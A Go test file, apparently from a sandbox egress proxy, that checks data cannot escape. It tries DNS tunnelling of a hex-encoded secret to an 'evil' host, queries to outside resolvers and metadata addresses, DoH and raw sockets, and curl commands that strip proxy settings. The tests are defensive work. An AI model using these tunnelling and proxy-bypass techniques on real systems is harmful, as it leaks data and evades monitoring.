package attack

import (
	"fmt"
	"strings"

	"github.com/miekg/dns"
	"github.com/stretchr/testify/require"

	"github.com/postern/postern/plan"
)

// secretLabels is data that somebody wants out, as a name.
const secretLabels = "6578666c74726174696f6e.of-a-secret"

// query asks a DNS server from the sandbox.
func (s *seat) query(network, server, name string, qtype uint16) *dns.Msg {
	s.Helper()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	q.SetEdns0(4096, false)
	q.IsEdns0().Option = append(q.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(secretLabels)})
	b, err := q.Pack()
	require.NoError(s, err)
	c := s.dial(network, server)
	defer c.Close()
	if network == "tcp" {
		b = append([]byte{byte(len(b) >> 8), byte(len(b))}, b...)
	}
	_, err = c.Write(b)
	require.NoError(s, err)
	in := make([]byte, 4096)
	n, err := c.Read(in)
	require.NoError(s, err, "%s %s", network, server)
	if network == "tcp" {
		if n == 2 { // the length came alone
			n2, err := c.Read(in[2:])
			require.NoError(s, err)
			n += n2
		}
		in, n = in[2:], n-2
	}
	m := new(dns.Msg)
	require.NoError(s, m.Unpack(in[:n]))
	return m
}

// unseen requires that nothing of a name has left, by DNS or otherwise.
func (s *seat) unseen(part string) {
	s.Helper()
	r, err := s.world.record()
	require.NoError(s, err)
	for name := range r.Queries {
		require.NotContains(s, name, part, "a look-up left the sandbox")
	}
	for flow := range r.Packets {
		require.NotContains(s, flow, part)
	}
}

// sideChannels is section D: ways out that are not a request.
var sideChannels = []Case{
	{ID: "D1", What: "DNS tunnelling through the sandbox's resolver", Ways: []Way{Inside}, Run: func(s *seat) {
		for _, network := range []string{"udp", "tcp"} {
			for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeCNAME, dns.TypeMX, dns.TypeNS, dns.TypeSRV, dns.TypeHTTPS, dns.TypeANY, dns.TypePTR} {
				m := s.query(network, "127.0.0.53:53", secretLabels+"."+s.host(evil), qtype)
				for _, rr := range m.Answer {
					a, ok := rr.(*dns.A)
					require.True(s, ok, "%s", rr)
					require.True(s, strings.HasPrefix(a.A.String(), "198.18."), "%s", rr)
				}
			}
		}
		s.unseen(secretLabels)
	}},
	{ID: "D2", What: "DNS to any other server", Ways: []Way{Inside}, Run: func(s *seat) {
		for _, server := range []string{"8.8.8.8", worldResolver[:len(worldResolver)-3], "169.254.169.253", "169.254.169.254", "10.0.0.2", "[2001:4860:4860::8888]", "127.0.0.1"} {
			for _, network := range []string{"udp", "tcp"} {
				m := s.query(network, server+":53", secretLabels+"."+s.host(evil), dns.TypeA)
				require.Equal(s, dns.RcodeRefused, m.Rcode, server)
				require.Empty(s, m.Answer)
			}
		}
		s.unseen(secretLabels)
	}},
	{ID: "D3", What: "DNS over TLS, HTTPS and QUIC, multicast DNS, LLMNR", Ways: []Way{Inside}, Run: func(s *seat) {
		s.undialable("tcp", "1.1.1.1:853")
		s.deny(plan.ReasonHost) // it is told
		for _, address := range []string{"1.1.1.1:853", "1.1.1.1:443", "1.1.1.1:784", "224.0.0.251:5353", "224.0.0.252:5355", "[ff02::fb]:5353", "255.255.255.255:5353"} {
			c, out, err := s.sandboxed.do(order{Net: "udp", Addr: address})
			require.NoError(s, err)
			c.Close()
			if out.Error == "" {
				s.undialable("udp", address)
			}
		}
		// DoH is HTTPS, and HTTPS is decided by host, method and path.
		_, err := s.handshake(s.dial("tcp", "1.1.1.1:443"), "one.one.one.one")
		require.ErrorContains(s, err, "access denied")
		s.deny(plan.ReasonHost)
		t, err := s.handshake(s.dial("tcp", "1.1.1.1:443"), s.host(api))
		require.NoError(s, err)
		a := exchange(t, "GET", request("GET", "/dns-query?dns=AAABAAABAAAAAAAA", s.host(api)))
		require.Equal(s, 403, a.Status)
		s.deny(plan.ReasonPath)
	}},
	{ID: "D4", What: "ICMP, raw sockets, SCTP, GRE, QUIC, vsock", Ways: []Way{Inside}, Run: func(s *seat) {
		const socket, inet, inet6, packet, vsock, alg = 41, 2, 10, 17, 40, 38
		for _, call := range [][]uintptr{
			{socket, inet, 3, 1},
			{socket, inet, 2, 1}, // as ping does without privileges
			{socket, inet6, 2, 58},
			{socket, inet, 3, 47},
			{socket, inet, 3, 255},
			{socket, inet, 1, 132},
			{socket, inet, 5, 132},
			{socket, inet6, 3, 58},
			{socket, packet, 3, 0x0300},
			{socket, vsock, 1, 0},
			{socket, alg, 5, 0},
			{socket, 44, 3, 0},
			{socket, 21, 5, 0}, // XDP, RDS
		} {
			c, out, err := s.sandboxed.do(order{Call: call})
			require.NoError(s, err)
			c.Close()
			require.NotEmpty(s, out.Error, "socket(%v)", call[1:])
		}
		for _, address := range []string{"203.0.113.1:443", "203.0.113.1:80", "203.0.113.1:123", "203.0.113.1:51820", "[2001:db8::1]:443"} {
			s.undialable("udp", address)
		}
	}},
	{ID: "D4", What: "every other port", Ways: []Way{Inside}, Run: func(s *seat) {
		for _, port := range []int{1, 21, 22, 23, 25, 110, 143, 465, 587, 993, 1080, 1194, 3306, 5432, 6379, 6667, 8000, 8081, 9001, 11211, 27017, 65535} {
			for _, host := range []string{"203.0.113.1", "[2001:db8::1]"} {
				require.Contains(s, s.undialable("tcp", fmt.Sprint(host, ":", port)), "refused")
				s.deny(plan.ReasonHost) // it is told
			}
		}
	}},
	{ID: "D5", What: "the proxy does not look up what it refuses", Ways: []Way{Explicit, Captured, Gateway}, Run: func(s *seat) {
		name := secretLabels + "." + s.host(evil)
		switch s.way {
		case Explicit:
			_, a := s.connect(name + ":443")
			require.Equal(s, 403, a.Status)
			s.deny(plan.ReasonHost)
			a = s.raw(request("GET", "http://"+name+"/", name))
			require.Equal(s, 403, a.Status)
			s.deny(plan.ReasonScheme)
			_, err := s.handshake(s.tunnel(s.host(api)), name)
			require.Error(s, err)
			s.deny(plan.ReasonName)
			a = exchange(s.secure(s.host(open)), "GET", request("GET", "/", name))
			require.Equal(s, 403, a.Status)
			s.deny(plan.ReasonName)
			a = exchange(s.secure(s.host(api)), "GET", request("GET", "/denied", s.host(api)))
			require.Equal(s, 403, a.Status)
			s.deny(plan.ReasonPath)
		case Captured:
			_, err := s.handshake(s.tunnel(name), name)
			require.ErrorContains(s, err, "access denied")
			s.deny(plan.ReasonHost)
		default:
			a := s.raw(request("GET", "http://"+name+":8080/", name))
			require.Equal(s, 403, a.Status)
			s.deny(plan.ReasonScheme)
		}
		s.unseen(secretLabels)
	}},
	{ID: "D6", What: "no proxy variables, NO_PROXY=*", Ways: []Way{Inside}, Run: func(s *seat) {
		const unset = "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy NO_PROXY='*' no_proxy='*' curl -sS --noproxy '*' -m 8 "
		s.fails(unset + "https://" + s.host(evil) + "/")
		s.deny(plan.ReasonHost)
		s.fails(unset + "-f http://" + s.host(evil) + "/")
		s.deny(plan.ReasonScheme)
		s.fails(unset + "-k --resolve " + s.host(evil) + ":443:203.0.113.5 https://" + s.host(evil) + "/")
		s.deny(plan.ReasonHost)
		out, status := s.sh(unset + "https://" + s.host(api) + "/v1/x")
		require.Zero(s, status, out)
		s.allow("api")
		// A proxy of the agent's own.
		s.deny(plan.ReasonHost)
		s.deny(plan.ReasonHost) // the connections to both are told
		s.fails("HTTPS_PROXY=http://203.0.113.5:8888 https_proxy=http://203.0.113.5:8888 curl -sS -m 8 https://" + s.host(api) + "/v1/x")
		s.fails("ALL_PROXY=socks5h://203.0.113.5:1080 HTTPS_PROXY= https_proxy= curl -sS -m 8 https://" + s.host(api) + "/v1/x")
		out, _ = s.sh("git config --global http.proxy ''; git -c http.proxy= ls-remote https://" + s.host(evil) + "/x.git 2>&1; true")
		require.NotContains(s, out, "HEAD")
		s.deny(plan.ReasonHost)
	}},
}
